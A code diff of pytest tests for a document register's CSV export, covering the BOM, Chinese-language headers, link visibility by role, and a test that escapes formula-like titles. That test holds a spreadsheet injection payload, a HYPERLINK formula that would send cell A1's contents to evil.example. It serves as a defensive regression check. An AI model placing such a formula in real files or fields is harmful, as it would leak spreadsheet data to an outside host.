@@ -152,13 +152,56 @@ def test_search_reads_only_revisions_the_searcher_may_read(
         assert numbers(client, q="restructuring") == [document.number]
 
 
+def register_csv(client, **params):
+    response = client.get(REGISTER, {"export": "csv", **params})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    content = b"".join(response.streaming_content).decode()
+    assert content.startswith("\ufeff")  # the BOM: spreadsheets read Chinese names right
+    return list(csv.reader(io.StringIO(content[1:])))
+
+
 def test_csv_export_lists_the_filtered_register(effective, quality_manager, client):
     client.force_login(quality_manager)
-    response = client.get(REGISTER, {"export": "csv"})
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    rows = register_csv(client)
     assert rows[0][0] == "number"
     assert rows[1][0] == effective.number and rows[1][7] == "effective"
+
+
+def test_csv_export_writes_a_formula_title_as_text(owner, department_a, quality_manager, client):
+    """A title typed as a spreadsheet formula must not run when the register is opened."""
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    document = draft_document(owner, department_a, title=title)
+    client.force_login(quality_manager)
+    rows = register_csv(client)
+    row = next(r for r in rows[1:] if r[0] == document.number)
+    assert row[1] == "'" + title
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+
+
+def test_csv_headers_are_in_the_readers_language(effective, quality_manager, client):
+    quality_manager.language = "zh-hans"
+    quality_manager.save(update_fields=["language"])
+    client.force_login(quality_manager)
+    header = register_csv(client)[0]
+    assert header[:3] == ["编号", "标题", "类型"]
+
+
+@pytest.mark.parametrize(
+    "persona, shown",
+    [
+        ("owner", True),
+        ("quality_manager", True),
+        ("administrator", True),  # may register one: the link is offered (it was hidden)
+        ("certifier", False),
+    ],
+)
+def test_the_new_document_link_is_shown_exactly_to_who_may_create(persona, shown, request, client):
+    person = request.getfixturevalue(persona)
+    client.force_login(person)
+    page = client.get(REGISTER).content.decode()
+    assert (reverse("documents:create") in page) is shown
+    assert client.get(reverse("documents:create")).status_code == (200 if shown else 403)
 
 
 def bulk_documents(count, owner, department):
